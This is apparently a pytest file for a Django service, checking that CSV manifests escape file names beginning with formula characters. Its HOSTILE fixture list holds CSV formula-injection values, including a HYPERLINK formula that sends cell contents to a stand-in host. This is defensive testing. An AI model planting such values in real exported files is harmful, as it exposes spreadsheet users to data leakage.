"""The results ZIP's manifest.csv shows hostile file names as text, never as formulas (issue 17,
item 8); the staff usage report does the same for workspace names."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.core.files.storage import default_storage

from cutout.jobs.services import job_create
from cutout.spreadsheet import safe_cell, safe_row
from tests.factories import grant, make_workspace
from tests.images import photo

FAST = {"pipeline": "fast", "mode": "transparent", "format": "png"}
HOSTILE = [
    '=HYPERLINK("evil.example?"&A1,"x").png',
    "+1+1.png",
    "-2+3.png",
    "@SUM(A1).png",
    "\t=1.png",
    "\r=1.png",
]


def test_formula_starts_are_neutralised() -> None:
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert safe_row(["plain.png", 3, -2, "", "a=b"]) == ["plain.png", 3, -2, "", "a=b"]


@pytest.mark.django_db
def test_manifest_cells_never_start_a_formula(
    eager: None, django_capture_on_commit_callbacks: Any
) -> None:
    workspace = make_workspace()
    grant(workspace, 10)
    files = [(name, photo(i)) for i, name in enumerate(HOSTILE)]
    with django_capture_on_commit_callbacks(execute=True):
        job = job_create(workspace=workspace, options=FAST, files=files)
    job.refresh_from_db()
    with (
        default_storage.open(str(job.result_zip.name), "rb") as handle,
        zipfile.ZipFile(io.BytesIO(handle.read())) as zf,
    ):
        rows = list(csv.reader(io.StringIO(zf.read("manifest.csv").decode(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 1 + len(HOSTILE)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert {row[1] for row in rows[1:]} == {"'" + name for name in HOSTILE}
